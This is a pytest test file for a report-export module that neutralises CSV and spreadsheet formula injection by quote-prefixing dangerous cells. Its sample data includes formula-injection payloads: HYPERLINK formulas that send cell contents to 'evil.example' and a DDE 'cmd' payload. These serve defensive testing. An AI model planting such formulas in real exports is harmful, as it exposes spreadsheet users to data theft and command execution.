"""Exports a spreadsheet opens run no formula: OWASP's CSV-injection rule in journeylab.report.export (issue 13)."""
from __future__ import annotations

import csv
import re
import tempfile
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from journeylab.report.export import neutralise, write_table

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISED = ["=1+1", "-2+3", "+31 6 1234", "@SUM(A1)", '=HYPERLINK("http://evil.example/?"&A1,"click")',
               "\t=1", "\r=1", "-", "-inf", "+nan", "=cmd|' /C calc'!A0"]
KEPT = ["-5", "+3.2", "-1e3", "-.5", "+0", "12", "shop", "'=already", " =1", "a=b", "", "Café"]


def parses_as_float(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def live(text: str) -> bool:
    """Whether a spreadsheet could run ``text`` as a formula: dangerous first character and not a number."""
    return text.startswith(DANGEROUS) and not parses_as_float(text)


def test_owasp_examples():
    frame = pd.DataFrame({"text": NEUTRALISED + KEPT})
    out = neutralise(frame)["text"].tolist()
    assert out[: len(NEUTRALISED)] == ["'" + t for t in NEUTRALISED]
    assert out[len(NEUTRALISED):] == KEPT


def test_numbers_dates_and_missing_values_untouched():
    frame = pd.DataFrame({
        "n": [-5, 3, 0], "x": [-1.5, np.nan, 2e10], "when": pd.to_datetime(["2024-01-01", None, "2024-03-01"]),
        "mixed": pd.Series([-3, "=1+1", None], dtype=object), "flag": [True, False, True],
    })
    out = neutralise(frame)
    for col in ("n", "x", "when", "flag"):
        pd.testing.assert_series_equal(out[col], frame[col])
    assert out["mixed"].tolist() == [-3, "'=1+1", None]
    assert frame["mixed"][1] == "=1+1"  # a copy: the caller's frame is not changed


def test_index_values_and_column_names_are_cells_too():
    frame = pd.DataFrame({"=bad": [1, 2], "good": [3, 4]},
                         index=pd.Index(["@SUM(A1)", "ok"], name="-name"))
    out = neutralise(frame)
    assert list(out.columns) == ["'=bad", "good"]
    assert list(out.index) == ["'@SUM(A1)", "ok"] and out.index.name == "'-name"
    multi = frame.set_index(pd.MultiIndex.from_arrays([["=a", "b"], [1, 2]], names=["+lvl", None]))
    out = neutralise(multi)
    assert out.index.get_level_values(0).tolist() == ["'=a", "b"] and out.index.get_level_values(1).tolist() == [1, 2]
    assert out.index.names == ["'+lvl", None]


def test_categories_and_repeated_index_labels():
    frame = pd.DataFrame({"channel": pd.Categorical(["=x", "email", "=x"]), "v": [1, 2, 3]}, index=["a", "a", "b"])
    out = neutralise(frame)
    assert out["channel"].tolist() == ["'=x", "email", "'=x"] and isinstance(out["channel"].dtype, pd.CategoricalDtype)
    clash = pd.DataFrame({"c": pd.Categorical(["=x", "'=x"])})  # both become "'=x": stays correct as text
    assert neutralise(clash)["c"].tolist() == ["'=x", "'=x"]


def test_neutralise_is_vectorised():
    # a per-row Python loop would take seconds here; the .str methods take a fraction of one
    import time

    frame = pd.DataFrame({"t": ["=1+1", "-5", "shop", "@x"] * 250_000})
    start = time.perf_counter()
    out = neutralise(frame)
    assert time.perf_counter() - start < 5
    assert out["t"].iloc[:4].tolist() == ["'=1+1", "-5", "shop", "'@x"]


def test_write_csv_and_xlsx(tmp_path):
    frame = pd.DataFrame({"name": NEUTRALISED, "revenue": range(len(NEUTRALISED))})
    csv_path = write_table(frame, tmp_path / "deep" / "er" / "t.csv")
    assert csv_path.exists()
    rows = _csv_rows(csv_path)
    assert rows[0] == ["name", "revenue"]  # default 0..n-1 index: not written
    assert [r[0] for r in rows[1:]] == ["'" + t for t in NEUTRALISED]
    assert pd.read_csv(csv_path)["revenue"].tolist() == list(range(len(NEUTRALISED)))
    xlsx = write_table(frame, tmp_path / "t.xlsx")
    cells = _xlsx_cells(xlsx)
    assert not [c for c in cells if c.data_type == "f"]
    # XML keeps no bare carriage return: openpyxl reads "\r" back as "\n" (still quote-prefixed)
    assert ["'" + t.replace("\r", "\n") for t in NEUTRALISED] == [c.value for c in cells if c.column == 1][1:]


def test_named_index_is_written(tmp_path):
    frame = pd.DataFrame({"clv": [1.5, 2.5]}, index=pd.Index(["c1", "=c2"], name="customer_id"))
    rows = _csv_rows(write_table(frame, tmp_path / "t.csv"))
    assert rows == [["customer_id", "clv"], ["c1", "1.5"], ["'=c2", "2.5"]]
    assert _csv_rows(write_table(frame, tmp_path / "u.csv", index=False))[0] == ["clv"]


def test_openpyxl_never_stores_a_formula(tmp_path, monkeypatch):
    # even if a text starting with '=' slipped past neutralise, the xlsx holds it as text
    import journeylab.report.export as export

    monkeypatch.setattr(export, "neutralise", lambda frame: frame)
    path = write_table(pd.DataFrame({"a": ["=1+1", "=HYPERLINK(\"x\")"]}), tmp_path / "t.xlsx")
    cells = _xlsx_cells(path)
    assert [c.value for c in cells] == ["a", "=1+1", "=HYPERLINK(\"x\")"] and {c.data_type for c in cells} == {"s"}


@pytest.mark.parametrize("name", ["t.txt", "t.xls", "t", "t.csv.gz", "t.json"])
def test_other_suffixes_are_refused(tmp_path, name):
    with pytest.raises(ValueError, match=re.escape(str(tmp_path / name))):
        write_table(pd.DataFrame({"a": [1]}), tmp_path / name)
    assert not (tmp_path / name).exists()


# --- properties -------------------------------------------------------------------------------------------
texts = st.one_of(
    st.text(),
    st.builds(lambda p, t: p + t, st.sampled_from(DANGEROUS), st.text()),  # most of the interesting cases
    st.floats(allow_nan=False, allow_infinity=False).map(repr),  # '-1e-05', '1.5': numbers written as text
    st.from_regex(r"[+-][0-9]{1,4}([.,][0-9]{0,3})?([eE][+-]?[0-9]{1,2})?[ +a-z]?", fullmatch=True),
)
cells = st.one_of(texts, st.none(), st.integers(), st.floats(allow_nan=True))


@settings(max_examples=120, deadline=None)
@given(st.lists(texts, min_size=1, max_size=8))
def test_no_live_formula_after_neutralise(values):
    out = neutralise(pd.DataFrame({"t": values}, index=values))
    for text in [*out["t"], *out.index]:
        assert not live(text), text


@settings(max_examples=120, deadline=None)
@given(st.lists(cells, min_size=1, max_size=8), st.lists(texts, min_size=1, max_size=3))
def test_neutralise_is_idempotent(values, names):
    frame = pd.DataFrame({f"{n}{i}": pd.Series(values, dtype=object) for i, n in enumerate(names)})
    once = neutralise(frame)
    pd.testing.assert_frame_equal(neutralise(once), once)


@settings(max_examples=120, deadline=None)
@given(st.lists(texts, min_size=1, max_size=8))
def test_harmless_text_is_unchanged(values):
    out = neutralise(pd.DataFrame({"t": values}))["t"].tolist()
    for before, after in zip(values, out):
        if not before.startswith(DANGEROUS):
            assert after == before
        else:
            assert after in (before, "'" + before)


@settings(max_examples=80, deadline=None)
@given(st.lists(texts, min_size=1, max_size=6), texts)
def test_csv_read_back_has_no_live_formula(values, header):
    with tempfile.TemporaryDirectory() as tmp:
        frame = pd.DataFrame({header: values, "n": range(len(values))}, index=pd.Index(values, name=header))
        rows = _csv_rows(write_table(frame, Path(tmp) / "t.csv"))
    assert len(rows) == len(values) + 1  # a carriage return inside a cell starts no row of its own
    assert all(len(r) == 3 for r in rows)
    for row in rows:
        for text in row:
            assert not live(text), row


@settings(max_examples=40, deadline=None)
@given(st.lists(texts, min_size=1, max_size=6), texts)
def test_xlsx_has_no_formula_cell(values, header):
    with tempfile.TemporaryDirectory() as tmp:
        frame = pd.DataFrame({header: values}, index=pd.Index(values, name="-id"))
        found = _xlsx_cells(write_table(frame, Path(tmp) / "t.xlsx"))
    assert not [c for c in found if c.data_type == "f"]
    assert not [c.value for c in found if isinstance(c.value, str) and live(c.value)]


def _csv_rows(path: Path, delimiter: str = ",") -> list[list[str]]:
    with open(path, newline="", encoding="utf-8-sig") as fh:
        return list(csv.reader(fh, delimiter=delimiter))


def _xlsx_cells(path: Path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_csv_is_safe_whatever_separator_the_spreadsheet_splits_on(tmp_path):
    """Dutch Excel splits a CSV on ';': an unquoted "x;=HYPERLINK(...)" would give a cell starting with '='."""
    frame = pd.DataFrame({"channel": ['x;=HYPERLINK("http://evil.example")', "a\t=1+1", "café"], "n": [1, 2, 3]})
    path = write_table(frame, tmp_path / "t.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark: Excel reads the é right
    for delimiter in (",", ";", "\t"):
        cells = [c for row in _csv_rows(path, delimiter) for c in row]
        assert not [c for c in cells if live(c)], (delimiter, cells)
    assert _csv_rows(path)[3] == ["café", "3"]


def test_csv_numbers_stay_numbers_without_binary_noise(tmp_path):
    path = write_table(pd.DataFrame({"s": ["a"], "f": [426344.16000000003], "n": [3]}), tmp_path / "t.csv")
    assert path.read_text(encoding="utf-8-sig").splitlines()[1] == '"a",426344.16,3'  # text quoted, numbers bare
